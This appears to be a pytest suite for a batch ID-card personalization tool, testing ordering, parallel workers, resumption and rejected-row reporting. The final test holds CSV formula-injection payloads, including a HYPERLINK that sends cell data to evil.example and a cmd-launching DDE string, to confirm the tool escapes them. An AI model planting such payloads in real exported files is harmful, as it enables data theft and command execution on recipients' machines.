"""cardtool perso as a batch tool: every row accounted for, in input order, on every core, resumable, reported."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest
from cardtool.main import main
from cardtool.perso_command import MANIFEST, PAGE, REJECTED, SignerSource, personalize_batch

from cardlib.card.image import CardImage
from cardlib.card.testing import sample_pki

SAMPLES = Path(__file__).resolve().parents[1] / "tools" / "cardtool" / "samples"


@pytest.fixture(scope="module")
def pki(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("pki") / "pki"
    sample_pki().save(folder)
    return folder


def _input(folder: Path, copies: int = 2) -> Path:
    """The sample residents ``copies`` times over (new ID numbers), with two broken rows in the middle."""
    shutil.copytree(SAMPLES / "portraits", folder / "portraits", dirs_exist_ok=True)
    rows = list(csv.DictReader((SAMPLES / "residents.csv").open(encoding="utf-8")))
    batch = [dict(row, id_number=row["id_number"][:-2] + f"{copy:02d}") for copy in range(copies) for row in rows]
    batch.insert(3, dict(rows[1], date_of_birth="31/02/1990"))
    batch.insert(7, dict(rows[2], portrait="portraits/nobody.jpg"))
    with (folder / "in.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(batch)
    return folder / "in.csv"


def _manifest(out: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in (out / MANIFEST).read_text(encoding="utf-8").splitlines()]


def test_parallel_perso_writes_every_row_in_input_order(pki: Path, tmp_path: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    source = _input(tmp_path)
    out = tmp_path / "out"
    assert main(["perso", str(source), "--pki", str(pki), "--out", str(out), "--workers", "2"]) == 1
    manifest = _manifest(out)
    assert [entry["row"] for entry in manifest] == list(range(2, 20))
    assert [entry["row"] for entry in manifest if entry["status"] == "rejected"] == [5, 9]
    rejected = list(csv.DictReader((out / REJECTED).open(encoding="utf-8")))
    assert [(row["row"], row["field"]) for row in rejected] == [("5", "date_of_birth"), ("9", "portrait")]
    page = (out / PAGE).read_text(encoding="utf-8")
    assert "16 personalized, 2 rejected" in page and "date_of_birth" in page and "<svg" in page
    cards = [CardImage.load(out / str(entry["card"])) for entry in manifest if entry["status"] == "personalized"]
    assert len({image.files["DG13"] for image in cards}) == 16
    assert "16 personalized, 2 rejected, 0 already done" in capsys.readouterr().out


def test_one_worker_and_two_personalize_the_same_rows(pki: Path, tmp_path: Path) -> None:
    source = _input(tmp_path, copies=1)
    one = personalize_batch(source, SignerSource(pki), tmp_path / "one", workers=1)
    two = personalize_batch(source, SignerSource(pki), tmp_path / "two", workers=2)
    assert (one.personalized, one.rejected) == (two.personalized, two.rejected) == (8, 2)
    assert _manifest(tmp_path / "one") == _manifest(tmp_path / "two")


def test_a_torn_manifest_line_is_redone_once(pki: Path, tmp_path: Path) -> None:
    source = _input(tmp_path, copies=1)
    out = tmp_path / "out"
    personalize_batch(source, SignerSource(pki), out, workers=2)
    lines = (out / MANIFEST).read_text(encoding="utf-8").splitlines(keepends=True)
    (out / MANIFEST).write_text("".join(lines[:6]) + lines[6][:25], encoding="utf-8")
    summary = personalize_batch(source, SignerSource(pki), out, workers=2)
    assert (summary.already_done, summary.personalized + summary.rejected) == (6, 4)
    assert sorted(int(str(entry["row"])) for entry in _manifest(out)) == list(range(2, 12))


def test_a_broken_pki_folder_stops_before_any_row(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = _input(tmp_path, copies=1)
    status = main(["perso", str(source), "--pki", str(tmp_path / "no-pki"), "--out", str(tmp_path / "out")])
    assert status == 2
    assert capsys.readouterr().err.startswith("cardtool perso: ")
    assert not (tmp_path / "out").exists()


def test_rejected_csv_neutralises_spreadsheet_formulas(pki: Path, tmp_path: Path) -> None:
    shutil.copytree(SAMPLES / "portraits", tmp_path / "portraits")
    rows = list(csv.DictReader((SAMPLES / "residents.csv").open(encoding="utf-8")))
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]
    with (tmp_path / "in.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(dict(rows[0], id_number=value) for value in hostile)
    personalize_batch(tmp_path / "in.csv", SignerSource(pki), tmp_path / "out")
    rejected = list(csv.DictReader((tmp_path / "out" / REJECTED).open(encoding="utf-8")))
    assert [row["id_number"] for row in rejected] == ["'" + value for value in hostile]
    cells = [cell for row in rejected for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
